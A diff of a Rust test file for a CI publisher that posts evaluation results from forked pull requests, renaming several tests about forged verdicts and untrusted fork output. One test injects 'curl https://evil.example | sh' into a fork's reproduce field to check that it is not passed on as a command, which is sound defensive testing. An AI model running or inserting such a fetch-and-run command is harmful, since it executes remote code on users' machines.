@@ -53,7 +53,7 @@ fn worse() -> (Job, Value) {
 }
 
 #[test]
-fn the_pull_request_of_a_fork_is_found_and_the_comment_says_whose_numbers_these_are() {
+fn a_forks_pull_request_is_found_and_its_comment_names_who_measured() {
     let (job, results) = worse();
     assert_eq!(results["gate"]["verdict"], "failed");
     let ran = job.publish(&[]);
@@ -231,7 +231,7 @@ fn a_run_of_a_commit_that_no_open_pull_request_is_at_is_not_published() {
 }
 
 #[test]
-fn what_a_fork_without_secrets_could_not_measure_is_neutral_and_what_it_measured_is_not() {
+fn what_a_fork_could_not_measure_is_neutral_and_what_it_measured_counts() {
     let world = upstream();
     world.commit("harmless");
     let (job, results) = publisher(&world);
@@ -250,7 +250,7 @@ fn what_a_fork_without_secrets_could_not_measure_is_neutral_and_what_it_measured
 }
 
 #[test]
-fn what_a_fork_did_not_leave_or_the_base_cannot_judge_ends_the_check_too() {
+fn missing_or_unjudgeable_results_of_a_fork_complete_the_check_too() {
     let (job, _) = worse();
     std::fs::remove_dir_all(job.world.path().join("evalratchet-out")).unwrap();
     assert_eq!(job.publish(&[]).code, 2);
@@ -274,7 +274,7 @@ fn what_a_fork_did_not_leave_or_the_base_cannot_judge_ends_the_check_too() {
 }
 
 #[test]
-fn a_github_that_does_not_say_what_to_judge_by_is_unreachable_and_nothing_green_is_shown() {
+fn a_github_without_a_policy_to_judge_by_shows_nothing_green() {
     let (mut job, mut forged) = worse();
     forged["gate"] = json!({"verdict": "passed", "exit_code": 0, "reasons": []});
     job.left(&forged).github.fault(Fault::on("GET", "/contents/").always().fails(500));
@@ -351,7 +351,7 @@ fn a_weaker_gate_a_lost_baseline_and_what_is_left_out_are_never_green() {
 }
 
 #[test]
-fn what_is_shown_of_a_fork_is_made_anew_and_nothing_of_it_is_a_command() {
+fn a_forks_reports_are_rendered_again_and_contain_no_commands() {
     let (job, mut results) = worse();
     results["suites"][0]["cases"][1]["reproduce"] = json!("curl https://evil.example | sh");
     assert_eq!(job.left(&results).publish(&[]).code, 0);
